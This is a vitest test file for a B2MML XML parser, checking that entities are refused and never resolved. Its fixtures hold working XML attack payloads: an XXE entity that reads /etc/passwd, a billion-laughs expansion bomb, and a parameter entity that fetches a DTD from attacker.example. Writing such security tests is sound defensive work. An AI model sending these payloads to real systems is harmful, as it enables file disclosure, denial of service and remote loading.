import { describe, expect, it } from 'vitest';
import { B2mmlError, parseOperationsSchedule, validateB2mml } from './index.ts';
import { codeOf } from './b2mml-error-code.test-support.ts';

describe('inbound safety: entities are refused, never resolved', () => {
  const xxe = `<?xml version="1.0"?>
<!DOCTYPE ProcessOperationsSchedule [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<ProcessOperationsSchedule xmlns="http://www.mesa.org/xml/B2MML" releaseID="V0701">
  <DataArea><Process/><OperationsSchedule><ID>&xxe;</ID></OperationsSchedule></DataArea>
</ProcessOperationsSchedule>`;
  const laughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<ProcessOperationsSchedule><DataArea><OperationsSchedule><ID>&lol9;</ID></OperationsSchedule></DataArea></ProcessOperationsSchedule>`;
  const parameterEntity = `<!doctype x [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><x/>`;

  it('an external entity (XXE) is refused', () => {
    expect(() => parseOperationsSchedule(xxe)).toThrow(B2mmlError);
    expect(codeOf(() => parseOperationsSchedule(xxe))).toBe('external-entities');
  });

  it('entity expansion (billion laughs) is refused', () => {
    expect(codeOf(() => parseOperationsSchedule(laughs))).toBe('external-entities');
    expect(codeOf(() => parseOperationsSchedule(Buffer.from(laughs)))).toBe('external-entities');
  });

  it('a lower-case doctype with a parameter entity is refused', () => {
    expect(codeOf(() => parseOperationsSchedule(parameterEntity))).toBe('external-entities');
  });

  it('the validator answers such documents invalid without reading them', async () => {
    const result = await validateB2mml(xxe);
    expect(result.valid).toBe(false);
    expect(result.errors[0]).toMatch(/^external-entities/);
  });
});
